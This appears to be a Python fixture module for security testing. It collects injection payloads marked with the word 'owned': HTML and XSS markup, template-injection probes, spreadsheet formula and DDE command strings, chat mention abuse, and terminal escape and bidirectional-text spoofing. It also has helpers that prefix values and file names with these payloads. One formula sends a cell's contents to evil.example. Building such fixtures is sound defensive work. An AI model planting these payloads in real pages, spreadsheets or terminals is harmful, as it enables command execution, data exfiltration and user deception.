"""Text that does something where it is not made harmless. Each payload holds the word `owned`."""

from __future__ import annotations

import zlib

MARKUP = (
    "<script>window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "<img src=//evil.example/owned.png onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "' autofocus onfocus='window.owned=1' x='",
    '" onmouseover="window.owned=1" style="position:fixed;inset:0" data-owned="',
    "</td></tr></table><iframe srcdoc='<script>top.owned=1</script>'></iframe>",
    "<a href=javascript:window.owned=1 id=owned>owned</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
    "</title></style></textarea><input autofocus onfocus=window.owned=1>",
    "<base href=//evil.example/owned/><form action=//evil.example/owned><button>owned</button>",
    "<style>@import '//evil.example/owned.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/owned.css><meta http-equiv=refresh content=0>owned",
    "<!--><svg/onload=window.owned=1>-->]]><?owned ?>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;&#60;img src=x onerror=window.owned=1&#62;",
    "{{ 7 * 7 }}{% raw %}{{ owned.__class__ }}${7*7}#{7*7}<%= owned %>",
    "`</code><script>window.owned=1</script>`",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/owned?"&A1,"owned")',
    "+owned+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C owned'!A0",
    "@SUM(1+1)*owned",
    "\t=owned+1",
    " =owned+1",
    '"=owned+1',
    "owned;=1+1;",
    "owned\r=1+1",
    "\u200b=owned+1",
    "\uff1downed+1",
)
MESSAGES = (
    "<!channel> <!here|owned> <@U0OWNED> <#C0OWNED> <!subteam^S0OWNED>",
    "<https://evil.example/owned|click> https://evil.example/owned www.owned.example",
    "@@channel @\u200bhere @everyone owned",
    "*owned* _owned_ ~owned~ `owned` ```owned``` :skull: :owned:",
    "> owned\n>>> owned\n- owned",
    "owned. `Next sentence. *not bold",
    "&amp;&lt;!channel&gt; owned &",
)
TERMINAL = (
    "\x1b[2J\x1b[31mowned\x1b]0;owned\x07",
    "\x9b31mowned\x9d0;owned\x9c",
    "owned\r\x1b[1A\x1b[2Kgreenzone: nothing to do",
    "owned\u202egnp.exe\u2066\u200f\u061c",
    "owned\u2028owned\u2029owned\x0b\x0c\x7f\x85",
    "owned\x08\x08\x08\x08\x08fine",
)
LONG = (
    "owned" * 60,
    "Owned\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 8,
    "&" * 190 + "owned",
    "\u202e" + "\u05d0" * 60 + "owned",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 30 + "owned",
)
FOR_IDS = tuple(
    text for text in (*MARKUP, *FORMULAS, *MESSAGES) if text.isascii() and text.isprintable()
)
ALL = (*MARKUP, *FORMULAS, *MESSAGES, *TERMINAL, *LONG)


def poisoned_id(value: str) -> str:
    """The same for an id, of which a row is refused that holds what does not show."""
    return FOR_IDS[zlib.crc32(value.encode()) % len(FOR_IDS)] + value


def poisoned(value: str) -> str:
    """A value with a payload before it: the same for the same value, so that keys still agree."""
    return ALL[zlib.crc32(value.encode()) % len(ALL)] + value


def file_names() -> list[str]:
    """Payloads as names of files: without the separator of folders, 200 bytes at most."""
    return [
        text.replace("/", "\u2215").encode()[:200].decode(errors="ignore") + ".csv"
        for text in ALL
        if not text.startswith((".", "~$"))
    ]
